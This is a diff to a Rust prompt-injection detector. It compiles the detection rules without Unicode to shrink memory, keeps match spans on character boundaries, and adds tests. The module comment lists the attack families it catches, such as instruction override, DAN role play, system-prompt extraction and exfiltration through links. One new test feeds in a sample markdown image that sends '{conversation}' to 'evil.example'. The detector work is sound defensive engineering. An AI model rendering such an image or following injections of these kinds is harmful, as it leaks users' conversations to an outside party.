@@ -12,6 +12,9 @@
 //! Families: instruction override, role play / DAN, system-prompt extraction, delimiter and
 //! tool-output injection, exfiltration via links and markdown images, obfuscation.
 //!
+//! The rules' gaps (`[^.]{0,40}` between words) count bytes, not characters: the automata are
+//! compiled without Unicode to stay small ([`byte_syntax`]).
+//!
 //! What it misses: paraphrased or translated attacks that avoid the rules' vocabulary (no
 //! language model here); leetspeak (`1gn0r3`); payloads split across several JSON leaves or
 //! messages; many-shot and crescendo attacks spread across turns; attacks in languages other
@@ -760,6 +763,7 @@ impl Reverse {
                     .match_kind(regex_automata::MatchKind::All)
                     .cache_capacity(1 << 20),
             )
+            .syntax(byte_syntax())
             .thompson(thompson::Config::new().reverse(true))
             .build(pattern)
             .map_err(Box::new)?;
@@ -793,6 +797,15 @@ impl Reverse {
                     .map_or(true, |m| m.is_some())
             })
     }
+}
+
+/// The rules are compiled without Unicode (`(?i-u)`): a class like `[^.]{0,300}` is then one byte
+/// range a step instead of a UTF-8 automaton, which made the three rules with such classes hold
+/// 2.4 of the rules' 4.4 MiB. The text is NFKC-folded, so ASCII case folding is all the rules
+/// need; their gaps count bytes, not characters; and every rule starts and ends with ASCII, so
+/// matches stay on character boundaries (`push` checks it anyway).
+fn byte_syntax() -> regex_automata::util::syntax::Config {
+    regex_automata::util::syntax::Config::new().utf8(false)
 }
 
 /// Unbounded repetitions in the rules (`\s+` between words) are assumed no longer than this when
@@ -920,12 +933,13 @@ impl InjectionDetector {
             // the lazy DFA's pass over the window (measured: `match_rules` 1.05 M -> 0.49 M
             // instructions per 64 KiB scan).
             let regex = meta::Regex::builder()
+                .syntax(byte_syntax())
                 .configure(
                     meta::Config::new()
                         .hybrid_cache_capacity(16 << 20)
                         .auto_prefilter(false),
                 )
-                .build(&format!("(?i){pattern}"))
+                .build(&format!("(?i-u){pattern}"))
                 .map_err(|e| {
                     GuardianError::Config(format!(
                         "pattern prompt_injection.{} does not compile: {e}",
@@ -944,7 +958,7 @@ impl InjectionDetector {
                     }
                 }
             }
-            let window = keywords::match_len_bound(&format!("(?i){pattern}"), UNBOUNDED_RUN)
+            let window = keywords::match_len_bound(&format!("(?i-u){pattern}"), UNBOUNDED_RUN)
                 .unwrap_or(MAX_WINDOW)
                 .clamp(16, MAX_WINDOW);
             // A keyword's space stands for the whole run of spaces in its hit, and `pre` and
@@ -967,7 +981,7 @@ impl InjectionDetector {
             // ends that soon has no match to find that another kept hit's window does not hold.
             let reverse = match place.post {
                 Some(post) if post <= MAX_REVERSE_POST && place.pre != Some(0) => {
-                    Some(Reverse::new(&format!("(?i){pattern}")).map_err(|e| {
+                    Some(Reverse::new(&format!("(?i-u){pattern}")).map_err(|e| {
                         GuardianError::Config(format!(
                             "pattern prompt_injection.{} has no reverse automaton: {e}",
                             def.id
@@ -1125,7 +1139,7 @@ impl InjectionDetector {
         rule_hits.sort_unstable_by_key(|h| (h.0, h.1));
         let mut windows: Vec<(usize, usize)> = Vec::new();
         let mut push = |rule: &Rule, start: usize, end: usize| {
-            let (start, end) = map(start, end);
+            let (start, end) = map(floor_boundary(text, start), ceil_boundary(text, end));
             out.push(Evidence {
                 rule: rule.def.id,
                 entity: rule.def.family.entity(),
@@ -1524,6 +1538,22 @@ mod tests {
         (s, ev.iter().map(|e| e.rule).collect())
     }
 
+    /// The rules' automata are compiled without Unicode ([`byte_syntax`]): with Unicode classes
+    /// they held 4.4 MiB (2.4 of it in three rules with `[^…]{0,300}`), resident in every
+    /// process.
+    #[test]
+    fn rule_automata_stay_small() {
+        let d = InjectionDetector::new(&InjectionConfig::default()).unwrap();
+        let bytes: usize = d
+            .rules
+            .iter()
+            .map(|r| {
+                r.regex.memory_usage() + r.reverse.as_ref().map_or(0, |x| x.dfa.memory_usage())
+            })
+            .sum();
+        assert!(bytes < 2 << 20, "{bytes} bytes");
+    }
+
     #[test]
     fn classic_override_blocks() {
         let (s, ev) = score(
@@ -1665,6 +1695,22 @@ mod tests {
             Channel::ToolOutput,
         );
         assert!(s >= 0.8, "{ev:?}");
+        // Non-ASCII inside the rules' byte classes: found, and the spans are character
+        // boundaries (the finding's text is sliced from them).
+        let t = "Résumé ![café — 日本](https://evil.example/ö?q={conversation}&d=ü) ✓";
+        let d = InjectionDetector::new(&InjectionConfig::default()).unwrap();
+        let mut ev = Vec::new();
+        d.evidence(t, Channel::ToolOutput, &mut ev);
+        assert!(
+            ev.iter().any(|e| e.rule == "markdown_image_query"),
+            "{ev:?}"
+        );
+        for e in &ev {
+            assert!(
+                t.is_char_boundary(e.start) && t.is_char_boundary(e.end),
+                "{e:?}"
+            );
+        }
     }
 
     /// Rules are searched only near their keywords: that must find every match a search of the
